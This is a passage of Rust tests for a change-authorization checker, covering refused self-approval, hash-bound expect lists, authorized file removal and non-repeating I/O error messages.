fn self_approval_is_refused_unless_allowed() {
    let fx = drifted();
    let mut e = Entry::new("CHG-1", &["app/**"]);
    e.approved_by = Some(e.requested_by.clone());
    let p = fx.write_entry(&e);
    let out = fx.check_changes(&[]);
    out.expect_code(1);
    assert_eq!(status_of(&out.json(), HOTFIX), "unauthorized");
    assert!(
        out.warnings()
            .iter()
            .any(|l| l.contains(p.to_str().unwrap())),
        "refusal must be reported naming the entry:\n{}",
        out.stderr
    );
    let out = fx.check_changes(&["--allow-self-approval"]);
    out.expect_code(0);
    assert_eq!(status_of(&out.json(), HOTFIX), "change:CHG-1");
}

#[test]
fn expect_with_the_right_hash_authorizes() {
    let fx = drifted();
    let now = fs::read(fx.path(HOTFIX)).unwrap();
    let mut e = Entry::new("CHG-1", &["app/**"]);
    e.expect = vec![(HOTFIX.into(), format!("blake3:{}", blake3_hex(&now)))];
    fx.write_entry(&e);
    let r = fx.check_changes(&[]).expect_code(0).json();
    assert_eq!(status_of(&r, HOTFIX), "change:CHG-1");
}

#[test]
fn expect_with_a_wrong_hash_does_not_authorize() {
    let fx = drifted();
    let mut e = Entry::new("CHG-1", &["app/**"]);
    e.expect = vec![(
        HOTFIX.into(),
        format!("blake3:{}", blake3_hex(b"the reviewed hotfix")),
    )];
    fx.write_entry(&e);
    let r = fx.check_changes(&[]).expect_code(1).json();
    assert_eq!(status_of(&r, HOTFIX), "unauthorized");
}

#[test]
fn expect_binds_only_listed_paths() {
    let fx = drifted();
    fx.write("app/extra.js", b"// not in the ticket's expect list");
    let now = fs::read(fx.path(HOTFIX)).unwrap();
    let mut e = Entry::new("CHG-1", &["app/**"]);
    e.expect = vec![(HOTFIX.into(), format!("blake3:{}", blake3_hex(&now)))];
    fx.write_entry(&e);
    let r = fx.check_changes(&[]).expect_code(1).json();
    assert_eq!(status_of(&r, HOTFIX), "change:CHG-1");
    assert_eq!(status_of(&r, "app/extra.js"), "unauthorized");
}

#[test]
fn entry_authorizes_removal() {
    let fx = Fx::new();
    fx.build_manifest();
    fs::remove_file(fx.path("app/lib/util.js")).unwrap();
    let mut e = Entry::new("CHG-1", &["app/lib/**"]);
    e.expect = vec![("app/lib/util.js".into(), "absent".into())];
    fx.write_entry(&e);
    let r = fx.check_changes(&[]).expect_code(0).json();
    assert_eq!(status_of(&r, "app/lib/util.js"), "change:CHG-1");
}

#[test]
fn io_error_lines_do_not_repeat_themselves() {
    // "one clear line": the OS error must appear once, not once per error-chain level.
    let fx = Fx::new();
    let missing = fx.base.join("nope.json");
    let out = fx.check_with(&missing, true, &[]);
    let line = out.error_line();
    assert_eq!(
        line.matches("(os error 2)").count(),
        1,
        "repeated cause: {line}"
    );
    fx.build_manifest();
    fs::remove_dir_all(&fx.root).unwrap();
    let out = fx.check(&[]);
    let line = out.error_line();
    assert_eq!(
        line.matches("(os error 2)").count(),
        1,
        "repeated cause: {line}"
    );
    assert_eq!(
        line.matches(fx.root.to_str().unwrap()).count(),
        1,
        "root named more than once: {line}"
    );
}
